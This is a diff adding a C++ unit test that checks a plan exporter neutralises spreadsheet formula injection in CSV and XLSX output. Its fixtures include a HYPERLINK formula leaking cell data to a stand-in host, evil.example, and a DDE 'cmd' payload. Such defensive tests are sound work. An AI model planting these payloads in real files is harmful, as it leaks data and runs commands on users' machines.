@@ -257,5 +257,43 @@ TEST(SyncMatrixTest, XlsxReadsBackWithOpenpyxl) {
   std::remove(script.c_str());
 }
 
+// Text a spreadsheet would run as a formula is neutralised in both exports
+// (OWASP CSV injection): a leading quote, shown as text.
+TEST(SyncMatrixTest, FormulaTextIsNeutralisedInCsvAndXlsx) {
+  Plan p = MakePlan();
+  p.stages[0].objective = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+  p.stages[1].objective = "@SUM(1+1)*cmd|' /C calc'!A0";
+  p.stages[2].objective = "-2+3";
+  SyncMatrix m = BuildSyncMatrix(p);
+  std::string csv_path = ::testing::TempDir() + "/sync_matrix_formula.csv";
+  ASSERT_TRUE(WriteSyncMatrixCsv(m, csv_path).ok());
+  std::string text = ReadFile(csv_path);
+  EXPECT_NE(text.find("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""), std::string::npos) << text;
+  EXPECT_NE(text.find(",'@SUM(1+1)*cmd|' /C calc'!A0,"), std::string::npos) << text;
+  EXPECT_NE(text.find(",'-2+3,"), std::string::npos) << text;
+  std::remove(csv_path.c_str());
+
+  std::string py = PythonWithOpenpyxl();
+  if (py.empty()) GTEST_SKIP() << "python3-openpyxl is not installed (apt-get install python3-openpyxl)";
+  std::string path = ::testing::TempDir() + "/sync_matrix_formula.xlsx";
+  ASSERT_TRUE(WriteSyncMatrixXlsx(m, p, "=1+1", path).ok());
+  std::string cmd = py + " -c \"import json,sys,openpyxl; ws=openpyxl.load_workbook(sys.argv[1])['Sync matrix']; "
+                    "print(json.dumps([[ws[c].value, ws[c].data_type] for c in ('A1','C4','D4','E4')]))\" " +
+                    path + " 2>&1";
+  FILE* pipe = popen(cmd.c_str(), "r");
+  ASSERT_NE(pipe, nullptr);
+  std::string out;
+  char buf[4096];
+  while (std::size_t n = fread(buf, 1, sizeof buf, pipe)) out.append(buf, n);
+  ASSERT_EQ(pclose(pipe), 0) << out;
+  json j = json::parse(out);
+  EXPECT_EQ(j[0][0], "'=1+1");
+  EXPECT_EQ(j[1][0], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+  EXPECT_EQ(j[2][0], "'@SUM(1+1)*cmd|' /C calc'!A0");
+  EXPECT_EQ(j[3][0], "'-2+3");
+  for (const auto& cell : j) EXPECT_EQ(cell[1], "s") << cell;  // strings, never formulas
+  std::remove(path.c_str());
+}
+
 }  // namespace
 }  // namespace vigil::plan
